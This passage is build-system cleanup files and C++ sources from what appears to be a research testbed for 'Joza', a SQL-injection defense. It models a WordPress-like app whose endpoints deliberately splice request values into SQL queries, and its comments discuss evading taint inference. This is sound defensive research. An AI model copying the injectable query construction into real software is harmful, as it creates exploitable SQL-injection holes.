  "libjoza_webapp.a"
  "libjoza_webapp.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_webapp.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
