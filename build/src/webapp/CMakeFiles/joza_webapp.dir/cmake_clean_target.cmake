file(REMOVE_RECURSE
  "libjoza_webapp.a"
)
