# Empty compiler generated dependencies file for joza_webapp.
# This may be replaced when dependencies are built.
