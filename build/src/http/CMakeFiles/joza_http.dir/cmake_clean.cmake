file(REMOVE_RECURSE
  "CMakeFiles/joza_http.dir/request.cpp.o"
  "CMakeFiles/joza_http.dir/request.cpp.o.d"
  "libjoza_http.a"
  "libjoza_http.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_http.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
