# Empty dependencies file for joza_http.
# This may be replaced when dependencies are built.
