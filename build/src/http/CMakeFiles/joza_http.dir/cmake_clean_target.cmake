file(REMOVE_RECURSE
  "libjoza_http.a"
)
