
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sqlparse/keywords.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/keywords.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/keywords.cpp.o.d"
  "/root/repo/src/sqlparse/lexer.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/lexer.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/lexer.cpp.o.d"
  "/root/repo/src/sqlparse/parser.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/parser.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/parser.cpp.o.d"
  "/root/repo/src/sqlparse/placeholders.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/placeholders.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/placeholders.cpp.o.d"
  "/root/repo/src/sqlparse/printer.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/printer.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/printer.cpp.o.d"
  "/root/repo/src/sqlparse/structure.cpp" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/structure.cpp.o" "gcc" "src/sqlparse/CMakeFiles/joza_sqlparse.dir/structure.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/joza_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
