file(REMOVE_RECURSE
  "CMakeFiles/joza_sqlparse.dir/keywords.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/keywords.cpp.o.d"
  "CMakeFiles/joza_sqlparse.dir/lexer.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/lexer.cpp.o.d"
  "CMakeFiles/joza_sqlparse.dir/parser.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/parser.cpp.o.d"
  "CMakeFiles/joza_sqlparse.dir/placeholders.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/placeholders.cpp.o.d"
  "CMakeFiles/joza_sqlparse.dir/printer.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/printer.cpp.o.d"
  "CMakeFiles/joza_sqlparse.dir/structure.cpp.o"
  "CMakeFiles/joza_sqlparse.dir/structure.cpp.o.d"
  "libjoza_sqlparse.a"
  "libjoza_sqlparse.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_sqlparse.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
