# Empty compiler generated dependencies file for joza_sqlparse.
# This may be replaced when dependencies are built.
