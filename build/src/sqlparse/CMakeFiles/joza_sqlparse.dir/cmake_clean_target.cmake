file(REMOVE_RECURSE
  "libjoza_sqlparse.a"
)
