file(REMOVE_RECURSE
  "CMakeFiles/joza_phpsrc.dir/fragments.cpp.o"
  "CMakeFiles/joza_phpsrc.dir/fragments.cpp.o.d"
  "CMakeFiles/joza_phpsrc.dir/installer.cpp.o"
  "CMakeFiles/joza_phpsrc.dir/installer.cpp.o.d"
  "CMakeFiles/joza_phpsrc.dir/php_lexer.cpp.o"
  "CMakeFiles/joza_phpsrc.dir/php_lexer.cpp.o.d"
  "libjoza_phpsrc.a"
  "libjoza_phpsrc.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_phpsrc.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
