# Empty compiler generated dependencies file for joza_phpsrc.
# This may be replaced when dependencies are built.
