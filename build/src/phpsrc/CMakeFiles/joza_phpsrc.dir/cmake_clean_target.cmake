file(REMOVE_RECURSE
  "libjoza_phpsrc.a"
)
