file(REMOVE_RECURSE
  "libjoza_ipc.a"
)
