file(REMOVE_RECURSE
  "CMakeFiles/joza_ipc.dir/daemon.cpp.o"
  "CMakeFiles/joza_ipc.dir/daemon.cpp.o.d"
  "CMakeFiles/joza_ipc.dir/framing.cpp.o"
  "CMakeFiles/joza_ipc.dir/framing.cpp.o.d"
  "libjoza_ipc.a"
  "libjoza_ipc.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_ipc.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
