# Empty dependencies file for joza_ipc.
# This may be replaced when dependencies are built.
