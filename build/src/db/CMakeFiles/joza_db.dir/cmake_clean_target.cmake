file(REMOVE_RECURSE
  "libjoza_db.a"
)
