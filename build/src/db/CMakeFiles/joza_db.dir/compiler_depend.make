# Empty compiler generated dependencies file for joza_db.
# This may be replaced when dependencies are built.
