file(REMOVE_RECURSE
  "CMakeFiles/joza_db.dir/database.cpp.o"
  "CMakeFiles/joza_db.dir/database.cpp.o.d"
  "CMakeFiles/joza_db.dir/value.cpp.o"
  "CMakeFiles/joza_db.dir/value.cpp.o.d"
  "libjoza_db.a"
  "libjoza_db.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_db.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
