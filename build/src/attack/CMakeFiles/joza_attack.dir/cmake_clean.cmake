file(REMOVE_RECURSE
  "CMakeFiles/joza_attack.dir/catalog.cpp.o"
  "CMakeFiles/joza_attack.dir/catalog.cpp.o.d"
  "CMakeFiles/joza_attack.dir/evasion.cpp.o"
  "CMakeFiles/joza_attack.dir/evasion.cpp.o.d"
  "CMakeFiles/joza_attack.dir/exploit.cpp.o"
  "CMakeFiles/joza_attack.dir/exploit.cpp.o.d"
  "CMakeFiles/joza_attack.dir/extractor.cpp.o"
  "CMakeFiles/joza_attack.dir/extractor.cpp.o.d"
  "CMakeFiles/joza_attack.dir/payload_gen.cpp.o"
  "CMakeFiles/joza_attack.dir/payload_gen.cpp.o.d"
  "CMakeFiles/joza_attack.dir/workload.cpp.o"
  "CMakeFiles/joza_attack.dir/workload.cpp.o.d"
  "libjoza_attack.a"
  "libjoza_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
