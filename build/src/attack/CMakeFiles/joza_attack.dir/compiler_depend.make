# Empty compiler generated dependencies file for joza_attack.
# This may be replaced when dependencies are built.
