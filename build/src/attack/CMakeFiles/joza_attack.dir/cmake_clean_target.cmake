file(REMOVE_RECURSE
  "libjoza_attack.a"
)
