file(REMOVE_RECURSE
  "CMakeFiles/joza_pti.dir/pti.cpp.o"
  "CMakeFiles/joza_pti.dir/pti.cpp.o.d"
  "libjoza_pti.a"
  "libjoza_pti.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_pti.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
