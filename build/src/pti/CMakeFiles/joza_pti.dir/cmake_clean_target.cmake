file(REMOVE_RECURSE
  "libjoza_pti.a"
)
