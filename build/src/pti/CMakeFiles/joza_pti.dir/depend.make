# Empty dependencies file for joza_pti.
# This may be replaced when dependencies are built.
