# Empty dependencies file for joza_nti.
# This may be replaced when dependencies are built.
