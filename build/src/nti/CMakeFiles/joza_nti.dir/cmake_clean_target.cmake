file(REMOVE_RECURSE
  "libjoza_nti.a"
)
