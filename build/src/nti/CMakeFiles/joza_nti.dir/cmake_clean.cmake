file(REMOVE_RECURSE
  "CMakeFiles/joza_nti.dir/nti.cpp.o"
  "CMakeFiles/joza_nti.dir/nti.cpp.o.d"
  "libjoza_nti.a"
  "libjoza_nti.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_nti.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
