# Empty compiler generated dependencies file for joza_check.
# This may be replaced when dependencies are built.
