file(REMOVE_RECURSE
  "CMakeFiles/joza_check.dir/joza_check.cpp.o"
  "CMakeFiles/joza_check.dir/joza_check.cpp.o.d"
  "joza_check"
  "joza_check.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_check.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
