file(REMOVE_RECURSE
  "CMakeFiles/joza_scan.dir/joza_scan.cpp.o"
  "CMakeFiles/joza_scan.dir/joza_scan.cpp.o.d"
  "joza_scan"
  "joza_scan.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_scan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
