# Empty dependencies file for joza_scan.
# This may be replaced when dependencies are built.
