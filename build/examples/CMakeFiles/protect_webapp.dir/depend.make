# Empty dependencies file for protect_webapp.
# This may be replaced when dependencies are built.
