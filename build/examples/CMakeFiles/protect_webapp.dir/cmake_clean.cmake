file(REMOVE_RECURSE
  "CMakeFiles/protect_webapp.dir/protect_webapp.cpp.o"
  "CMakeFiles/protect_webapp.dir/protect_webapp.cpp.o.d"
  "protect_webapp"
  "protect_webapp.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/protect_webapp.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
