# Empty dependencies file for pti_daemon.
# This may be replaced when dependencies are built.
