file(REMOVE_RECURSE
  "CMakeFiles/pti_daemon.dir/pti_daemon.cpp.o"
  "CMakeFiles/pti_daemon.dir/pti_daemon.cpp.o.d"
  "pti_daemon"
  "pti_daemon.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pti_daemon.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
