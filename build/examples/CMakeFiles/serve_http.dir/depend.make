# Empty dependencies file for serve_http.
# This may be replaced when dependencies are built.
