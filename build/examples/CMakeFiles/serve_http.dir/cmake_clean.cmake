file(REMOVE_RECURSE
  "CMakeFiles/serve_http.dir/serve_http.cpp.o"
  "CMakeFiles/serve_http.dir/serve_http.cpp.o.d"
  "serve_http"
  "serve_http.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/serve_http.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
