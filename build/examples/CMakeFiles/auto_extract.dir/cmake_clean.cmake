file(REMOVE_RECURSE
  "CMakeFiles/auto_extract.dir/auto_extract.cpp.o"
  "CMakeFiles/auto_extract.dir/auto_extract.cpp.o.d"
  "auto_extract"
  "auto_extract.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/auto_extract.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
