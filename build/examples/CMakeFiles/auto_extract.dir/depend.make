# Empty dependencies file for auto_extract.
# This may be replaced when dependencies are built.
