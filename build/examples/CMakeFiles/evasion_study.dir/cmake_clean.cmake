file(REMOVE_RECURSE
  "CMakeFiles/evasion_study.dir/evasion_study.cpp.o"
  "CMakeFiles/evasion_study.dir/evasion_study.cpp.o.d"
  "evasion_study"
  "evasion_study.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_study.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
