// Mini web-application framework: the WordPress stand-in.
//
// An Application owns the backing Database, a set of routes (built-in core
// routes plus plugin endpoints), and the synthesized PHP source corpus that
// Joza's installer scans for fragments. Every SQL query the application
// issues flows through an interception gate — the hook Joza's wrappers
// install (Section IV-A "wraps all standard PHP functions ... that interact
// with backend databases").
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "db/database.h"
#include "http/request.h"
#include "phpsrc/fragments.h"
#include "webapp/transforms.h"

namespace joza::webapp {

// Decision returned by the interception gate for one query.
struct GateDecision {
  enum class Action {
    kAllow,             // pass the query to the DBMS
    kBlockError,        // error virtualization: report a failed query
    kBlockTerminate,    // terminate the request (blank page)
  };
  Action action = Action::kAllow;
  std::string reason;  // detector diagnostics, for logging/tests
};

// The gate sees the query and the unmodified original request (Joza's
// preprocessing stores a copy of all inputs before the application can
// transform them).
using QueryGate =
    std::function<GateDecision(std::string_view sql, const http::Request&)>;

// How an endpoint turns query results into an HTTP response — this decides
// which side channels an attacker can observe.
enum class ResponseMode {
  kData,         // renders result rows (union attacks read data directly)
  kBlind,        // only reveals rows-found vs none / SQL error (blind)
  kDoubleBlind,  // constant body; only the timing channel leaks (SLEEP)
};

// Declarative description of one (possibly vulnerable) endpoint: one
// request parameter flows through a transform chain into a query template.
struct Endpoint {
  std::string path;
  std::string param;            // request parameter that is interpolated
  TransformChain transforms;    // applied before query construction
  std::string query_prefix;     // SQL before the value
  std::string query_suffix;     // SQL after the value
  bool quoted = false;          // wrap the value in single quotes
  ResponseMode mode = ResponseMode::kData;

  // Builds the SQL for a (transformed) value.
  std::string BuildQuery(std::string_view transformed_value) const;

  // Synthesizes the PHP source that would construct this query, so the
  // fragment-extraction pass sees exactly what a real plugin would contain.
  std::string SynthesizePhpSource() const;
};

struct RequestStats {
  std::size_t queries_issued = 0;
  std::size_t queries_blocked = 0;
  double db_virtual_time_ms = 0.0;
};

// Issues one SQL query through the interception gate. Returns the database
// result, a database error, or Unavailable when the gate terminated the
// request (the enclosing Handle() then renders the blank page regardless of
// what the handler does next).
using QueryRunner =
    std::function<StatusOr<db::ExecResult>(const std::string& sql)>;

// A free-form route for flows the declarative Endpoint cannot express:
// multi-parameter payload construction, second-order (store-then-use)
// flows, and anything needing custom rendering.
using RouteHandler =
    std::function<http::Response(const http::Request&, const QueryRunner&)>;

class Application {
 public:
  explicit Application(std::unique_ptr<db::Database> database);

  db::Database& database() { return *db_; }
  const db::Database& database() const { return *db_; }

  // Registers a plugin endpoint plus its synthesized source file.
  void AddEndpoint(Endpoint endpoint, std::string source_name);

  // Registers a free-form route; `source` is the PHP the plugin would ship
  // (its string literals feed the fragment vocabulary like any other file).
  void AddRoute(std::string path, RouteHandler handler,
                php::SourceFile source);

  // Adds a raw PHP source file to the corpus (e.g. WordPress core files).
  void AddSourceFile(php::SourceFile file);

  // Constant queries issued on *every* request before the routed handler —
  // the options/user/meta loads that make a WordPress page cost ~20 queries
  // (Section VI-A). They flow through the gate like any other query.
  void SetBoilerplateQueries(std::vector<std::string> queries);

  const std::vector<php::SourceFile>& sources() const { return sources_; }
  const std::vector<Endpoint>& endpoints() const { return endpoints_; }

  // Installs/clears the interception gate.
  void SetQueryGate(QueryGate gate) { gate_ = std::move(gate); }

  // Serves one request. Unknown paths get 404. Detected attacks follow the
  // gate's recovery policy (error virtualization or termination).
  http::Response Handle(const http::Request& request);

  const RequestStats& last_stats() const { return stats_; }

 private:
  struct QueryOutcome {
    bool blocked_terminate = false;
    bool db_error = false;
    std::string error_message;
    db::ExecResult result;
  };
  QueryOutcome RunQuery(const std::string& sql, const http::Request& request);

  http::Response HandleEndpoint(const Endpoint& ep,
                                const http::Request& request);

  std::unique_ptr<db::Database> db_;
  std::vector<Endpoint> endpoints_;
  std::vector<std::pair<std::string, RouteHandler>> routes_;
  std::vector<php::SourceFile> sources_;
  std::vector<std::string> boilerplate_;
  QueryGate gate_;
  RequestStats stats_;
  bool request_terminated_ = false;  // set when the gate terminates
};

// Builds the standard testbed application: a WordPress-like core with
// posts/users/comments/options tables, seeded content, built-in routes
// ("/", "/post", "/search", "/comment" — all correctly escaped), and core
// PHP sources contributing the base fragment vocabulary of Table III.
std::unique_ptr<Application> MakeWordpressLikeApp(std::uint64_t seed,
                                                  std::size_t posts = 50);

}  // namespace joza::webapp
