// Application-level input transformations.
//
// These are the transformations real web applications apply to inputs
// between HTTP parsing and query construction — the exact mechanism NTI
// evasion exploits (Section III-A): any transformation widens the edit
// distance between the raw input NTI stored and the bytes that reach the
// query.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace joza::webapp {

enum class Transform {
  kMagicQuotes,    // PHP addslashes — WordPress enforces this on all input
  kStripSlashes,   // plugins frequently undo magic quotes (the classic bug)
  kTrim,           // WordPress trims input from authenticated users
  kBase64Decode,   // plugins passing state through base64 (AdRotate-style)
  kUrlDecode,      // an extra decode layer on top of the server's
  kCollapseSpaces, // normalize runs of whitespace to one space
  kToLower,        // case normalization
  kIntCast,        // PHP intval() — a *sanitizing* transform
  kEscapeSql,      // mysql_real_escape_string equivalent — also sanitizing
};

const char* TransformName(Transform t);

using TransformChain = std::vector<Transform>;

// Applies one transformation. kBase64Decode on malformed input yields the
// empty string (PHP returns false, used as '').
std::string ApplyTransform(Transform t, std::string_view input);

// Applies the whole chain left to right.
std::string ApplyChain(const TransformChain& chain, std::string_view input);

// True if the chain leaves *some* inputs changed (i.e. it can break the
// input↔query correspondence NTI relies on). Sanitizing transforms count.
bool ChainTransformsInput(const TransformChain& chain);

}  // namespace joza::webapp
