#include "webapp/http_server.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>

#include "util/strings.h"

namespace joza::webapp {

Status SendAll(int fd, std::string_view data) {
  std::size_t sent = 0;
  while (sent < data.size()) {
    // MSG_NOSIGNAL: a peer that disconnected mid-response must surface as
    // EPIPE here, not as a process-wide SIGPIPE (fatal under the
    // multi-threaded gateway, where client resets are routine).
    ssize_t n =
        ::send(fd, data.data() + sent, data.size() - sent, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable(std::string("send(): ") +
                                 std::strerror(errno));
    }
    sent += static_cast<std::size_t>(n);
  }
  return Status::Ok();
}

const char* ReasonPhrase(int status) {
  switch (status) {
    case 200: return "OK";
    case 400: return "Bad Request";
    case 404: return "Not Found";
    case 408: return "Request Timeout";
    case 413: return "Payload Too Large";
    case 500: return "Internal Server Error";
    case 503: return "Service Unavailable";
    default: return "Status";
  }
}

namespace {

// Reads until the header terminator, then content-length more bytes.
StatusOr<std::string> ReadHttpRequest(int fd) {
  std::string data;
  char buf[4096];
  std::size_t header_end = std::string::npos;
  while (header_end == std::string::npos) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable(std::string("recv(): ") +
                                 std::strerror(errno));
    }
    if (n == 0) break;  // peer closed
    data.append(buf, static_cast<std::size_t>(n));
    header_end = data.find("\r\n\r\n");
    if (data.size() > (1u << 20)) {
      return Status::InvalidArgument("request too large");
    }
  }
  if (header_end == std::string::npos) {
    if (data.empty()) return Status::NotFound("empty connection");
    return data;  // header-only request without terminator: best effort
  }
  // Honour Content-Length for the body.
  std::size_t content_length = 0;
  std::size_t cl = FindIgnoreCase(data.substr(0, header_end),
                                  "content-length:");
  if (cl != std::string_view::npos) {
    content_length = static_cast<std::size_t>(
        std::strtoul(data.c_str() + cl + 15, nullptr, 10));
  }
  const std::size_t body_start = header_end + 4;
  while (data.size() < body_start + content_length) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable("recv() during body");
    }
    if (n == 0) break;
    data.append(buf, static_cast<std::size_t>(n));
  }
  return data;
}

}  // namespace

StatusOr<int> HttpServer::Start(int port) {
  if (running_.load()) return Status::InvalidArgument("already running");
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Unavailable(std::string("socket(): ") +
                               std::strerror(errno));
  }
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(port));
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
      0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("bind(): ") +
                               std::strerror(errno));
  }
  socklen_t len = sizeof addr;
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  port_ = ntohs(addr.sin_port);
  if (::listen(listen_fd_, 16) != 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("listen(): ") +
                               std::strerror(errno));
  }
  running_.store(true);
  thread_ = std::thread([this] { AcceptLoop(); });
  return port_;
}

void HttpServer::Stop() {
  if (!running_.exchange(false)) return;
  // Shutting down the listening socket unblocks accept().
  ::shutdown(listen_fd_, SHUT_RDWR);
  ::close(listen_fd_);
  listen_fd_ = -1;
  if (thread_.joinable()) thread_.join();
}

void HttpServer::AcceptLoop() {
  while (running_.load()) {
    int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      if (errno == EMFILE || errno == ENFILE) {
        // Descriptor exhaustion is a load condition, not a fatal listener
        // failure: count it, give the process a beat to release fds, and
        // keep accepting instead of silently abandoning the socket.
        ++accept_overflows_;
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
        continue;
      }
      break;  // listener closed by Stop()
    }
    ServeConnection(fd);
    ::close(fd);
  }
}

void HttpServer::ServeConnection(int fd) {
  auto raw = ReadHttpRequest(fd);
  if (!raw.ok()) return;
  http::Response response;
  auto request = http::ParseRawRequest(raw.value());
  if (!request.ok()) {
    response.status = 400;
    response.body = "Bad Request";
  } else {
    response = app_.Handle(request.value());
  }
  ++served_;
  std::string out = "HTTP/1.0 " + std::to_string(response.status) + " " +
                    ReasonPhrase(response.status) + "\r\n";
  out += "Content-Type: text/html\r\n";
  out += "Content-Length: " + std::to_string(response.body.size()) + "\r\n";
  out += "X-Virtual-Time-Ms: " + std::to_string(response.virtual_time_ms) +
         "\r\n";
  out += "Connection: close\r\n\r\n";
  out += response.body;
  SendAll(fd, out);
}

StatusOr<std::string> FetchRaw(int port, const std::string& raw_request) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return Status::Unavailable("socket()");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(port));
  while (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    if (errno == EINTR || errno == EALREADY) continue;  // in-progress: retry
    if (errno == EISCONN) break;  // the interrupted connect completed
    ::close(fd);
    return Status::Unavailable(std::string("connect(): ") +
                               std::strerror(errno));
  }
  if (auto st = SendAll(fd, raw_request); !st.ok()) {
    ::close(fd);
    return st;
  }
  ::shutdown(fd, SHUT_WR);
  std::string response;
  char buf[4096];
  for (;;) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      ::close(fd);
      return Status::Unavailable("recv()");
    }
    if (n == 0) break;
    response.append(buf, static_cast<std::size_t>(n));
  }
  ::close(fd);
  return response;
}

StatusOr<SimpleResponse> HttpGet(int port,
                                 const std::string& path_and_query) {
  auto raw = FetchRaw(port, "GET " + path_and_query +
                                " HTTP/1.0\r\nHost: localhost\r\n\r\n");
  if (!raw.ok()) return raw.status();
  const std::string& text = raw.value();
  SimpleResponse out;
  // Status line: "HTTP/1.0 200 OK".
  std::size_t sp = text.find(' ');
  if (sp == std::string::npos) return Status::ParseError("bad status line");
  out.status = std::atoi(text.c_str() + sp + 1);
  std::size_t body = text.find("\r\n\r\n");
  if (body != std::string::npos) out.body = text.substr(body + 4);
  return out;
}

}  // namespace joza::webapp
