// Minimal blocking HTTP/1.0 server over loopback TCP.
//
// Serves a webapp::Application so the whole stack — wire bytes, header
// parsing, input snapshotting, Joza interception, rendering — can be
// exercised through real sockets, like the paper's Apache deployment.
// One request per connection, single accept thread.
#pragma once

#include <atomic>
#include <string>
#include <string_view>
#include <thread>

#include "http/request.h"
#include "util/status.h"
#include "webapp/application.h"

namespace joza::webapp {

class HttpServer {
 public:
  // The application must outlive the server.
  explicit HttpServer(Application& app) : app_(app) {}
  ~HttpServer() { Stop(); }

  HttpServer(const HttpServer&) = delete;
  HttpServer& operator=(const HttpServer&) = delete;

  // Binds 127.0.0.1:`port` (0 picks a free port), starts the accept loop
  // in a background thread. Returns the bound port.
  StatusOr<int> Start(int port = 0);

  // Stops accepting and joins the thread. Idempotent.
  void Stop();

  int port() const { return port_; }
  std::size_t requests_served() const { return served_.load(); }
  // accept() failures due to EMFILE/ENFILE the loop absorbed and retried.
  std::size_t accept_overflows() const { return accept_overflows_.load(); }

 private:
  void AcceptLoop();
  void ServeConnection(int fd);

  Application& app_;
  int listen_fd_ = -1;
  int port_ = 0;
  std::thread thread_;
  std::atomic<bool> running_{false};
  std::atomic<std::size_t> served_{0};
  std::atomic<std::size_t> accept_overflows_{0};
};

// Writes all of `data`, looping over partial sends; EINTR is retried and a
// disconnected peer yields EPIPE (MSG_NOSIGNAL), never a SIGPIPE.
Status SendAll(int fd, std::string_view data);

// Standard reason phrase for the status codes this stack emits.
const char* ReasonPhrase(int status);

// Tiny blocking client for tests/examples: sends one request, returns the
// raw response ("HTTP/1.0 <code> ...\r\n...\r\n\r\n<body>"). Handles
// partial send/recv and interrupted connect explicitly so concurrent load
// (the gateway bench) cannot flake it.
StatusOr<std::string> FetchRaw(int port, const std::string& raw_request);

// Convenience GET; returns (status, body).
struct SimpleResponse {
  int status = 0;
  std::string body;
};
StatusOr<SimpleResponse> HttpGet(int port, const std::string& path_and_query);

}  // namespace joza::webapp
