#include "webapp/transforms.h"

#include <cstdlib>

#include "util/codec.h"
#include "util/strings.h"

namespace joza::webapp {

const char* TransformName(Transform t) {
  switch (t) {
    case Transform::kMagicQuotes: return "magic_quotes";
    case Transform::kStripSlashes: return "stripslashes";
    case Transform::kTrim: return "trim";
    case Transform::kBase64Decode: return "base64_decode";
    case Transform::kUrlDecode: return "urldecode";
    case Transform::kCollapseSpaces: return "collapse_spaces";
    case Transform::kToLower: return "strtolower";
    case Transform::kIntCast: return "intval";
    case Transform::kEscapeSql: return "escape_sql";
  }
  return "?";
}

std::string ApplyTransform(Transform t, std::string_view input) {
  switch (t) {
    case Transform::kMagicQuotes:
      return AddSlashes(input);
    case Transform::kStripSlashes:
      return StripSlashes(input);
    case Transform::kTrim:
      return std::string(Trim(input));
    case Transform::kBase64Decode: {
      auto decoded = Base64Decode(input);
      return decoded.ok() ? std::move(decoded.value()) : std::string();
    }
    case Transform::kUrlDecode:
      return UrlDecode(input);
    case Transform::kCollapseSpaces:
      return CollapseWhitespace(input);
    case Transform::kToLower:
      return ToLower(input);
    case Transform::kIntCast: {
      // PHP intval(): numeric prefix, base 10.
      std::string buf(Trim(input));
      long long v = std::strtoll(buf.c_str(), nullptr, 10);
      return std::to_string(v);
    }
    case Transform::kEscapeSql:
      // mysql_real_escape_string escapes the same set as addslashes plus
      // newlines; the quote/backslash behaviour is what matters here.
      return AddSlashes(input);
  }
  return std::string(input);
}

std::string ApplyChain(const TransformChain& chain, std::string_view input) {
  std::string current(input);
  for (Transform t : chain) {
    current = ApplyTransform(t, current);
  }
  return current;
}

bool ChainTransformsInput(const TransformChain& chain) {
  // A magic-quotes immediately undone by stripslashes is the identity on
  // every input; any other non-empty chain changes at least some inputs.
  if (chain.empty()) return false;
  if (chain.size() == 2 && chain[0] == Transform::kMagicQuotes &&
      chain[1] == Transform::kStripSlashes) {
    return false;
  }
  return true;
}

}  // namespace joza::webapp
