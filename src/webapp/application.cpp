#include "webapp/application.h"

#include "util/rng.h"
#include "util/strings.h"

namespace joza::webapp {

// ---------------------------------------------------------------------------
// Endpoint
// ---------------------------------------------------------------------------

std::string Endpoint::BuildQuery(std::string_view transformed_value) const {
  std::string q = query_prefix;
  if (!param.empty()) {
    if (quoted) q.push_back('\'');
    q.append(transformed_value);
    if (quoted) q.push_back('\'');
  }
  q.append(query_suffix);
  return q;
}

std::string Endpoint::SynthesizePhpSource() const {
  std::string src = "<?php\n";
  if (!param.empty()) {
    src += "$val = $_REQUEST['" + param + "'];\n";
    for (Transform t : transforms) {
      switch (t) {
        case Transform::kMagicQuotes: src += "$val = addslashes($val);\n"; break;
        case Transform::kStripSlashes: src += "$val = stripslashes($val);\n"; break;
        case Transform::kTrim: src += "$val = trim($val);\n"; break;
        case Transform::kBase64Decode: src += "$val = base64_decode($val);\n"; break;
        case Transform::kUrlDecode: src += "$val = urldecode($val);\n"; break;
        case Transform::kCollapseSpaces:
